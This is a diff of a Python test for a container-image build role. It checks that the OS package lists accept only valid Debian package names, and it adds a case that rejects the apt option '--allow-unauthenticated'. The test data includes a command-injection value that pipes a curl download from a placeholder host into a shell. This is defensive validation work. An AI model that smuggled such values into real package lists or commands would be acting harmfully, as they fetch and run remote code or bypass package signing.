@@ -54,10 +54,12 @@ def test_push_needs_a_registry():
 
 def test_os_packages_must_be_debian_package_names():
     result = run_role({"image_pip_os_packages": ["tini", "tini; curl example.invalid | sh"],
-                       "image_code_server_os_packages": ["python3=3.11.2-1+b1", "Git"]})
+                       "image_code_server_os_packages": ["python3=3.11.2-1+b1", "Git"],
+                       "image_frontend_os_packages": ["tini", "--allow-unauthenticated"]})
     assert result.rc != 0
     assert "image_pip_os_packages: tini; curl example.invalid | sh is not a Debian package" in result.failure
     assert "image_code_server_os_packages: Git is not a Debian package" in result.failure
+    assert "image_frontend_os_packages: --allow-unauthenticated is not a Debian package" in result.failure
     assert "image_pip_os_packages: tini is not" not in result.failure and "python3=" not in result.failure
     assert_nothing_done(result)
 
